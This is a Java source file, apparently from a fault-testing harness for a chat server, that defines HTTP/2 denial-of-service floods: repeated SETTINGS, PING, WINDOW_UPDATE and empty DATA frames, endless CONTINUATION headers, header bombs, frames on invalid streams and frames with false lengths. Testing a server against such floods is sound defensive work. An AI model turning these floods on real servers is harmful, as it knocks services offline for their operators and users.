package io.chittychat.demo.faults.flood;

import static io.chittychat.demo.faults.http2.Frame.CONTINUATION;
import static io.chittychat.demo.faults.http2.Frame.DATA;
import static io.chittychat.demo.faults.http2.Frame.END_HEADERS;
import static io.chittychat.demo.faults.http2.Frame.GOAWAY;
import static io.chittychat.demo.faults.http2.Frame.HEADERS;
import static io.chittychat.demo.faults.http2.Frame.NO_FLAGS;
import static io.chittychat.demo.faults.http2.Frame.PADDED;
import static io.chittychat.demo.faults.http2.Frame.PING;
import static io.chittychat.demo.faults.http2.Frame.PRIORITY;
import static io.chittychat.demo.faults.http2.Frames.frame;

import io.chittychat.demo.faults.http2.Frames;
import io.chittychat.demo.faults.http2.HeaderBlock;
import io.chittychat.demo.faults.http2.RawConnection;
import java.io.IOException;
import java.util.List;

/** Frames that cost the sender little, each kind in great number or in the wrong place. */
final class FrameFloods {

    private static final int MANY = 500; // frames at a time
    private static final int LARGEST = 16_384; // bytes of a frame's payload
    private static final int UNKNOWN = 0x7e; // a type that HTTP/2 does not have
    private static final HeaderBlock STREAM = HeaderBlock.of("PublishStream");

    private FrameFloods() {}

    static List<Flood> all() {
        return List.of(
                new Flood("SETTINGS", attack -> same(attack, Frames.settings(Frames.INITIAL_WINDOW_SIZE, 65_535))),
                new Flood("empty SETTINGS", attack -> same(attack, Frames.settings())),
                new Flood("SETTINGS that change all windows", FrameFloods::windows),
                new Flood("PING", attack -> same(attack, frame(PING, NO_FLAGS, 0, new byte[Long.BYTES]))),
                new Flood("WINDOW_UPDATE", attack -> onStream(attack, Frames.windowUpdate(1, 1))),
                new Flood(
                        "WINDOW_UPDATE beyond the largest", attack -> same(attack, Frames.windowUpdate(0, 0x7fffffff))),
                new Flood("WINDOW_UPDATE of nothing", attack -> onStream(attack, Frames.windowUpdate(1, 0))),
                new Flood("empty DATA", attack -> onStream(attack, Frames.data(1, new byte[0]))),
                new Flood("DATA of padding", attack -> onStream(attack, frame(DATA, PADDED, 1, padding()))),
                new Flood("PRIORITY", attack -> same(attack, frame(PRIORITY, NO_FLAGS, 3, new byte[] {0, 0, 0, 1, 1}))),
                new Flood(
                        "frames of an unknown type", attack -> same(attack, frame(UNKNOWN, NO_FLAGS, 0, new byte[8]))),
                new Flood("GOAWAY, and on", attack -> same(attack, frame(GOAWAY, NO_FLAGS, 0, new byte[8]))),
                new Flood("empty CONTINUATION", attack -> continued(attack, new byte[0])),
                new Flood("CONTINUATION without end", attack -> continued(attack, manyHeaders())),
                new Flood("many small headers", FrameFloods::headerBombs),
                new Flood("frames on streams that are none", FrameFloods::wrongStreams),
                new Flood("frames that lie about their length", FrameFloods::wrongLengths));
    }

    private static void same(Attack attack, byte[] bytes) throws IOException {
        attack.repeat(attack.connect(), Frames.repeat(bytes, MANY));
    }

    /** On the first stream of a connection, which stays open. */
    private static void onStream(Attack attack, byte[] bytes) throws IOException {
        RawConnection connection = attack.connect();
        connection.send(Frames.headers(connection.nextStream(), STREAM));
        attack.repeat(connection, Frames.repeat(bytes, MANY));
    }

    private static void windows(Attack attack) throws IOException {
        RawConnection connection = attack.connect();
        for (int i = 0; i < MANY; i++) {
            connection.send(Frames.headers(connection.nextStream(), STREAM));
        }
        byte[] small = Frames.settings(Frames.INITIAL_WINDOW_SIZE, 0, Frames.HEADER_TABLE_SIZE, 0);
        byte[] large = Frames.settings(Frames.INITIAL_WINDOW_SIZE, 0x7fffffff, Frames.HEADER_TABLE_SIZE, 0x7fffffff);
        attack.repeat(connection, Frames.repeat(Frames.join(small, large), MANY));
    }

    /** Headers that never end. */
    private static void continued(Attack attack, byte[] block) throws IOException {
        RawConnection connection = attack.connect();
        int stream = connection.nextStream();
        connection.send(frame(HEADERS, NO_FLAGS, stream, STREAM.encoded()));
        attack.repeat(connection, frame(CONTINUATION, NO_FLAGS, stream, block));
    }

    /** One frame full of headers of one byte each. */
    private static byte[] manyHeaders() {
        byte[] header = new HeaderBlock(List.of(new HeaderBlock.Header("x", ""))).encoded();
        return Frames.repeat(header, LARGEST / header.length);
    }

    private static void headerBombs(Attack attack) throws IOException {
        RawConnection connection = attack.connect();
        byte[] block = STREAM.encoded();
        while (attack.goesOn()) {
            int stream = connection.nextStream();
            attack.send(
                    connection,
                    Frames.join(
                            frame(HEADERS, NO_FLAGS, stream, block),
                            frame(CONTINUATION, END_HEADERS, stream, manyHeaders())));
        }
    }

    private static void wrongStreams(Attack attack) throws IOException {
        for (int stream : List.of(0, 2, 99)) {
            RawConnection connection = attack.connect();
            attack.send(connection, Frames.repeat(Frames.data(stream, new byte[1]), MANY));
            connection = attack.connect();
            attack.send(connection, Frames.repeat(Frames.headers(stream, STREAM), MANY));
            connection = attack.connect();
            attack.send(connection, Frames.repeat(Frames.reset(stream, Frames.CANCEL), MANY));
        }
        attack.pause(1);
    }

    private static void wrongLengths(Attack attack) throws IOException {
        RawConnection large = attack.connect();
        attack.send(large, frame(DATA, NO_FLAGS, 1, new byte[LARGEST + 1]));
        RawConnection small = attack.connect();
        attack.send(small, frame(PING, NO_FLAGS, 0, new byte[1]));
        RawConnection cut = attack.connect();
        attack.send(cut, new byte[] {0, 0x40, 0, HEADERS, END_HEADERS, 0, 0, 0, 1, 0});
        cut.close();
        RawConnection padded = attack.connect();
        padded.send(Frames.headers(padded.nextStream(), STREAM));
        attack.send(padded, frame(DATA, PADDED, 1, new byte[] {(byte) 0xff, 0}));
        attack.pause(1);
    }

    private static byte[] padding() {
        byte[] padded = new byte[256];
        padded[0] = (byte) 0xff;
        return padded;
    }
}
